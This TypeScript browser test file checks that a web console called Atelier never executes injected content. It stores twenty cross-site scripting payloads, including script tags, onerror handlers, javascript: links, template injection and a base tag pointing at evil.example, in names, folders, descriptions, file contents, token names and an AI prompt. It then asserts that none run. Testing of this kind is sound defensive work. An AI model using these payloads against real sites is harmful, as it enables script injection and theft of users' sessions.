import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { createClient } from '@atelier/sdk'
import { startServer, type TestServer } from '../../server/test/server.ts'
import { buildConsole, goTo, noBrowser, openBrowser, signIn } from './browser.ts'

const RUN = 'parent.ran=top.ran=window.ran=1'

/** Twenty injection payloads. */
const payloads = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `"><img src=x onerror=${RUN}>`,
  `' autofocus onfocus='${RUN}' x='`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<a href="javascript:${RUN}">click</a>`,
  `[click](javascript:${RUN})`,
  `![x](x" onerror="${RUN})`,
  `<body onload=${RUN}>`,
  `<details open ontoggle="${RUN}">`,
  `<video><source onerror="${RUN}">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/"><script src="x.js"></script>`,
  `<style>@import "data:text/css,*{}";</style><b style="background:url(javascript:${RUN})">`,
  `</title></textarea></pre><script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}\${${RUN}}`,
]

describe('untrusted content', { skip: noBrowser }, () => {
  let server: TestServer
  let browser: Awaited<ReturnType<typeof openBrowser>>
  const shown: { project: string; ids: string[] } = { project: `<img src=x onerror="${RUN}">`, ids: [] }

  before(async () => {
    buildConsole()
    server = await startServer()
    browser = await openBrowser()
    const atelier = createClient({ baseUrl: server.url, token: server.token })
    for (const [index, payload] of payloads.entries()) {
      // Names cannot contain slashes.
      const name = `${payload.replaceAll('/', '∕')}${['.md', '.txt', '.json', '.js'][index % 4]}`
      const { file } = await atelier.files.upload(payload, {
        projectId: shown.project,
        folder: `<b onclick=${RUN}>`,
        description: payload,
        name,
      })
      shown.ids.push(file.id)
      await atelier.tokens.create({ name: payload.slice(0, 100), scopes: ['ai'] })
    }
    await atelier.ai.generate({ prompt: payloads.join(' '), type: 'content' })
  })
  after(async () => {
    await browser?.close()
    await server?.close()
  })

  test(`never runs: ${payloads.length} payloads in names, folders, projects, descriptions, contents, tokens and prompts`, async () => {
    const { page } = await browser.open(server.url)
    let dialogs = 0
    page.on('dialog', (dialog) => {
      dialogs++
      void dialog.dismiss()
    })
    const outside: string[] = []
    page.on('request', (request) => {
      const { protocol, origin } = new URL(request.url())
      if (origin !== server.url && !/^(blob|data|about):$/.test(protocol)) outside.push(request.url())
    })
    await signIn(page, server.token)
    await page.getByRole('link', { name: '<img src=x' }).click()
    await page.getByRole('link', { name: '<b onclick' }).last().click()
    await page.getByText('20 files').waitFor()
    const place = new URL(page.url())
    for (const [index, id] of shown.ids.entries()) {
      place.searchParams.set('file', id)
      await goTo(page, place.pathname + place.search)
      const sheet = page.getByRole('dialog')
      await sheet
        .locator(index % 4 === 0 ? 'iframe[sandbox^="allow-popups"]' : '.cm-line')
        .first()
        .waitFor()
      await sheet.getByRole('tab', { name: 'Details' }).click()
      await sheet.getByText('Description').waitFor()
      assert.ok((await sheet.getByText(payloads[index] ?? '').count()) > 0, payloads[index])
    }
    await goTo(page, '/tokens')
    await page
      .getByRole('button', { name: /^Revoke <script>/ })
      .first()
      .waitFor()
    await goTo(page, '/history')
    await page.getByRole('link', { name: '<script>' }).click()
    await page.getByRole('dialog').locator('.cm-line').first().waitFor()

    const ran = await Promise.all(page.frames().map((frame) => frame.evaluate(() => 'ran' in window)))
    assert.deepEqual([...new Set(ran)], [false])
    assert.equal(dialogs, 0)
    assert.deepEqual(outside, [])
  })

  for (const path of ['/', '/docs']) {
    test(`a stored script or style sheet is not loaded by the page ${path}`, async () => {
      const atelier = createClient({ baseUrl: server.url, token: server.token })
      const store = async (name: string, content: string) =>
        (await atelier.files.upload(content, { projectId: 'code', name })).file.id
      const addresses = {
        script: `/files/${await store('a.js', 'window.ran = 1')}`,
        style: `/files/${await store('a.css', 'body { color: red }')}`,
      }
      const { page } = await browser.open(server.url)
      await page.goto(server.url + path)
      const outcomes = await page.evaluate(async ({ script, style }) => {
        const loaded = (element: HTMLElement) =>
          new Promise<string>((resolve) => {
            element.onload = () => resolve('loaded')
            element.onerror = () => resolve('refused')
            document.head.append(element)
          })
        return {
          script: await loaded(Object.assign(document.createElement('script'), { src: script })),
          style: await loaded(
            Object.assign(document.createElement('link'), { rel: 'stylesheet', href: style }),
          ),
          worker: await new Promise((resolve) => {
            try {
              const worker = new Worker(script)
              worker.onerror = () => resolve('refused')
              worker.onmessage = () => resolve('loaded')
            } catch {
              resolve('refused')
            }
          }),
          ran: 'ran' in window,
        }
      }, addresses)
      assert.deepEqual(outcomes, { script: 'refused', style: 'refused', worker: 'refused', ran: false })
    })
  }
})
